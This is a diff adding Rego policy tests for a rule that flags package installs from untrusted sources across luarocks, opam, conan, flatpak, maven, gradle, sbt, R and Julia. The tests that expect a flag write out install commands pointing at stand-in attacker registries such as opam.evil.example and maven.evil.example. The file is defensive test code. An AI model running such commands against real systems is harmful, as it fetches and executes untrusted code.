@@ -388,3 +388,61 @@ test_a_stdin_manifest_without_host_access_passes if {
 	count(package_sources.ask) == 0 with input as _input([_seg(["kubectl", "apply", "-f", "-"], {"manifest_literal": pod})])
 	count(package_sources.ask) == 0 with input as _input([_seg(["kubectl", "get", "pods"], {"manifest_literal": "privileged: true"})])
 }
+
+# ------------------------------------------------------------ s31: sources of other ecosystems
+
+test_other_ecosystem_sources_ask if {
+	count(package_sources.ask) == 1 with input as _input([_seg(["luarocks", "install", "--server=https://rocks.evil.example", "x"], {})])
+	count(package_sources.ask) == 1 with input as _input([_seg(["luarocks", "install", "https://evil.example/x-1.0-1.rockspec"], {})])
+	count(package_sources.ask) == 1 with input as _input([_seg(["opam", "pin", "add", "-y", "x", "https://github.com/a/x.git"], {})])
+	count(package_sources.ask) == 1 with input as _input([_seg(["opam", "repository", "add", "evil", "https://opam.evil.example"], {})])
+	count(package_sources.ask) == 1 with input as _input([_seg(["opam", "switch", "create", ".", "--repos=default,evil=https://opam.evil.example"], {})])
+	count(package_sources.ask) == 1 with input as _input([_seg(["conan", "remote", "add", "evil", "https://conan.evil.example"], {})])
+	count(package_sources.ask) == 1 with input as _input([_seg(["flatpak", "install", "-y", "--from", "https://evil.example/x.flatpakref"], {})])
+	count(package_sources.ask) == 1 with input as _input([_seg(["swift", "package", "add-dependency", "https://github.com/a/x", "--branch", "main"], {})])
+	count(package_sources.ask) == 1 with input as _input([_seg(["zig", "fetch", "--save", "git+https://github.com/a/x"], {})])
+	count(package_sources.ask) == 1 with input as _input([_seg(["stack", "install", "--resolver", "https://evil.example/s.yaml", "x"], {})])
+	count(package_sources.ask) == 1 with input as _input([_seg(["rye", "add", "x", "--git", "https://github.com/a/x"], {})])
+	count(package_sources.ask) == 1 with input as _input([_seg(["mvn", "dependency:get", "-DremoteRepositories=evil::default::https://maven.evil.example/", "-Dartifact=g:a:1"], {})])
+	count(package_sources.ask) == 1 with input as _input([_seg(["./gradlew", "build", "-Dorg.gradle.internal.plugins.portal.url.override=https://p.evil.example"], {"command": "./gradlew"})])
+	count(package_sources.ask) == 1 with input as _input([_seg(["sbt", `set resolvers += "x" at "https://maven.evil.example"`, "update"], {})])
+	count(package_sources.ask) == 1 with input as _input([_seg(["R", "CMD", "INSTALL", "/tmp/x_1.0.tar.gz"], {})])
+}
+
+test_other_ecosystem_registry_names_pass if {
+	count(package_sources.ask) == 0 with input as _input([_seg(["luarocks", "install", "lpeg"], {})])
+	count(package_sources.ask) == 0 with input as _input([_seg(["luarocks", "install", "--server=https://luarocks.org/dev", "lpeg"], {})])
+	count(package_sources.ask) == 0 with input as _input([_seg(["opam", "install", "dune"], {})])
+	count(package_sources.ask) == 0 with input as _input([_seg(["opam", "pin", "add", "mylib", "."], {})])
+	count(package_sources.ask) == 0 with input as _input([_seg(["conan", "install", ".", "--build=missing"], {})])
+	count(package_sources.ask) == 0 with input as _input([_seg(["flatpak", "install", "flathub", "org.x.Y"], {})])
+	count(package_sources.ask) == 0 with input as _input([_seg(["flatpak", "remote-add", "--if-not-exists", "flathub", "https://dl.flathub.org/repo/flathub.flatpakrepo"], {})])
+	count(package_sources.ask) == 0 with input as _input([_seg(["mvn", "dependency:get", "-Dartifact=g:a:v"], {})])
+	count(package_sources.ask) == 0 with input as _input([_seg(["mvn", "-Dmaven.repo.local=.m2", "test"], {})])
+	count(package_sources.ask) == 0 with input as _input([_seg(["./gradlew", "sonar", "-Dsonar.host.url=https://sonarcloud.io"], {"command": "./gradlew"})])
+	count(package_sources.ask) == 0 with input as _input([_seg(["stack", "build", "--resolver", "lts-22.0"], {})])
+	count(package_sources.ask) == 0 with input as _input([_seg(["zig", "build"], {})])
+	count(package_sources.ask) == 0 with input as _input([_seg(["R", "CMD", "INSTALL", "."], {})])
+}
+
+test_inline_code_package_source_asks if {
+	code := _seg(["Rscript", "-e", `remotes::install_github("a/b")`], {})
+	pkg := _seg(["@package", "R", "install_github", "github:a/b"], {"id": 1, "parent": 0, "context": "interpreter_code"})
+	some msg in package_sources.ask with input as _input([code, pkg])
+	contains(msg, "github:a/b")
+	contains(msg, "Rscript -e")
+	url := _seg(["@package", "Julia", "Pkg.add", "https://github.com/a/B.jl"], {"id": 1, "parent": 0, "context": "interpreter_code"})
+	count(package_sources.ask) == 1 with input as _input([code, url])
+	tmp := _seg(["@package", "Julia", "Pkg.develop", "/tmp/x"], {"id": 1, "parent": 0, "context": "interpreter_code"})
+	count(package_sources.ask) == 1 with input as _input([code, tmp])
+	computed := _seg(["@package", "Julia", "Pkg.add", "(…)"], {"id": 1, "parent": 0, "context": "interpreter_code"})
+	count(package_sources.ask) == 1 with input as _input([code, computed])
+}
+
+test_inline_code_trusted_or_local_source_passes if {
+	code := _seg(["Rscript", "-e", "x"], {})
+	cran := _seg(["@package", "R", "repos", "https://cloud.r-project.org"], {"id": 1, "parent": 0, "context": "interpreter_code"})
+	count(package_sources.ask) == 0 with input as _input([code, cran])
+	here := _seg(["@package", "Julia", "Pkg.develop", "./lib/X"], {"id": 1, "parent": 0, "context": "interpreter_code"})
+	count(package_sources.ask) == 0 with input as _input([code, here])
+}
